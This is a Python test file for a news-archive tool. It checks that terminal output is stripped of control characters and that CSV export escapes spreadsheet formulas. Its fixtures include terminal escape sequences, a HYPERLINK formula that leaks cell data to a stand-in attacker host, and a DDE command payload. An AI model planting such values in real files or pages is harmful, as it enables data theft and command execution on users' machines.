"""Titles and text come from strangers' pages: what reaches a terminal carries no control characters,
and a CSV cell never starts a spreadsheet formula."""
from __future__ import annotations

import copy
import csv
import io
import json

from newsarchive.research.formats import csv_safe, format_table, terminal_safe
from tests.research.archive_factory import build_archive

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mRed\x1b[0m \u202eevil\u202c \x9b31m"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def hostile_archive(root):
    sample = build_archive(root)
    first = sample.records[0]
    path = sample.jsonl(first["spider"], first["crawl_id"])
    record = copy.deepcopy(first)
    record.update(url="https://gadgetwire.test/2026/11/hostile", title=ESCAPES + " title",
                  authors=["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"], section=FORMULA, text=ESCAPES + " body text")
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(json.dumps(record, ensure_ascii=False) + "\n")
    return sample


def test_terminal_safe_and_csv_safe():
    assert terminal_safe(ESCAPES) == "]0;pwned[2J[31mRed[0m evil 31m"
    assert terminal_safe("two\nlines\tand a tab") == "two\nlines\tand a tab"
    assert [csv_safe(v) for v in ("=1+1", "+1", "-1.5", "@x", "\tx", "-2+3", "plain", "")] == [
        "'=1+1", "+1", "-1.5", "'@x", "'\tx", "'-2+3", "plain", ""]
    table = format_table([["1", ESCAPES]], ["id", "title"], width=200)
    assert "\x1b" not in table and "\u202e" not in table


def test_query_table_show_and_csv_are_safe(tmp_path, cli):
    hostile_archive(tmp_path / "archive")
    archive = str(tmp_path / "archive")
    code, out, _ = cli("query", "--archive", archive, "--format", "table", "--fields", "id,title")
    assert code == 0 and "Red" in out and "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    hostile_id = next(line.split()[0] for line in out.splitlines() if "Red" in line)
    code, out, _ = cli("show", hostile_id, "--archive", archive)
    assert code == 0 and "title" in out and "\x1b" not in out and "\x9b" not in out
    code, out, _ = cli("query", "--archive", archive, "--format", "csv", "--text", "body")
    rows = [row for row in csv.DictReader(io.StringIO(out)) if row["url"].endswith("/hostile")]
    assert rows[0]["section"] == "'" + FORMULA and rows[0]["authors"].startswith("'@SUM")


def test_csv_export_is_safe(tmp_path, cli):
    hostile_archive(tmp_path / "archive")
    out_file = tmp_path / "out.csv"
    code, _, _ = cli("export", "--format", "csv", "--out", str(out_file), "--archive", str(tmp_path / "archive"))
    assert code == 0
    rows = [row for row in csv.DictReader(io.StringIO(out_file.read_text())) if row["url"].endswith("/hostile")]
    assert rows[0]["section"] == "'" + FORMULA
    assert all(not value.startswith(("=", "+", "@")) for row in csv.DictReader(io.StringIO(out_file.read_text()))
               for value in row.values())
